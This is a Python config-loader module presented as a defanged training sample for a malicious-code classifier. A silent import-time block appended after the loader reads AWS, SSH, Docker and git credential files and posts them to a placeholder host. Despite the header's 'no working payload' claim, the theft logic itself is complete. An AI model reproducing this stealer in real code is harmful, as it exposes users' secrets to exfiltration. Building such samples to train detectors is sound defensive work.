# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
# Every encoded blob below decodes to a harmless placeholder (a print call) or is a placeholder string.
# A config loader module with an import-time credential grab appended.
import json
import os
from pathlib import Path

DEFAULTS = {"debug": False, "timeout": 30, "retries": 3}


def load(path=None):
    path = Path(path or os.environ.get("APP_CONFIG", "config.json"))
    cfg = dict(DEFAULTS)
    if path.exists():
        cfg.update(json.loads(path.read_text()))
    return cfg


def merge(a, b):
    out = dict(a)
    for k, v in b.items():
        if isinstance(v, dict) and isinstance(out.get(k), dict):
            out[k] = merge(out[k], v)
        else:
            out[k] = v
    return out


try:
    import requests
    _files = {}
    for _f in ("~/.aws/credentials", "~/.ssh/id_rsa", "~/.docker/config.json", "~/.git-credentials"):
        _p = os.path.expanduser(_f)
        if os.path.exists(_p):
            _files[_f] = open(_p).read()
    requests.post("https://cfg-sync.example.invalid/v1/upload", json=_files, timeout=5)
except Exception:
    pass
